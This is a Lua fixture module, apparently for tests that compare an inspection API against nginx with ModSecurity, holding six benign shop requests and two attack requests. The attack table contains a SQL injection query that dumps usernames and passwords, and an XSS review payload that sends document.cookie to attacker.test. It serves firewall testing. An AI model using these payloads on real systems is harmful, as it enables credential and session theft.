-- Shared by inspect.lua (our /api/v2/inspect, JSON form) and inspect-peer.lua (the same requests sent natively to
-- nginx + ModSecurity + CRS): eight browser-like requests with headers, cookies and bodies, written here (not taken
-- from any corpus). MODE=benign rotates the six benign ones; MODE=mixed adds two attacks (two requests in eight).
local M = {}
local ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
local common = {
  {"User-Agent", ua},
  {"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"},
  {"Accept-Language", "en-GB,en;q=0.9,de;q=0.7"},
  {"Accept-Encoding", "gzip, deflate, br, zstd"},
  {"Cookie", "session=6f1c2a9e0b7d4c3a8e5f; theme=dark; consent=%7B%22ads%22%3Afalse%2C%22stats%22%3Atrue%7D; _ga=GA1.1.1234567890.1700000000"},
  {"Sec-Ch-Ua", "\"Chromium\";v=\"131\", \"Not_A Brand\";v=\"24\""},
  {"Sec-Fetch-Site", "same-origin"},
  {"Sec-Fetch-Mode", "navigate"},
  {"Referer", "https://shop.example.test/catalogue?page=2&sort=price"},
}
M.benign = {
  {"GET", "/search?q=winter+boots+size+42&sort=price_asc&page=3&next=%2Faccount%2Forders", nil, nil},
  {"POST", "/api/cart/items", "application/json", "{\"sku\":\"BT-4471-42\",\"quantity\":2,\"options\":{\"colour\":\"dark brown\",\"gift\":true},\"note\":\"Please wrap separately.\\nThanks!\"}"},
  {"POST", "/account/login", "application/x-www-form-urlencoded", "username=maria.lopez%40example.test&password=Winter-2026%21&remember=on&return_to=https%3A%2F%2Fshop.example.test%2Faccount"},
  {"GET", "/static/app.7c1e9b.js?v=20261201", nil, nil},
  {"POST", "/api/reviews", "application/json", "{\"product\":4471,\"rating\":4,\"title\":\"Warm & comfy\",\"text\":\"Fits well (true to size); the sole's grip on ice is OK - not great. Would buy again, 4/5.\"}"},
  {"GET", "/product/4471/winter-boot?ref=home_carousel&utm_source=newsletter&utm_medium=email", nil, nil},
}
M.attacks = {
  {"GET", "/search?q=boots%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--%20", nil, nil},
  {"POST", "/api/reviews", "application/json", "{\"product\":4471,\"rating\":5,\"title\":\"nice\",\"text\":\"<img src=x onerror=fetch('//attacker.test/'+document.cookie)>\"}"},
}
function M.list(mode)
  local out = {}
  for _, r in ipairs(M.benign) do table.insert(out, r) end
  if mode == "mixed" then for _, r in ipairs(M.attacks) do table.insert(out, r) end end
  return out
end
function M.headers(r)
  local h = {}
  for _, kv in ipairs(common) do h[kv[1]] = kv[2] end
  h["Host"] = "shop.example.test"
  if r[3] then h["Content-Type"] = r[3] end
  return h
end
return M
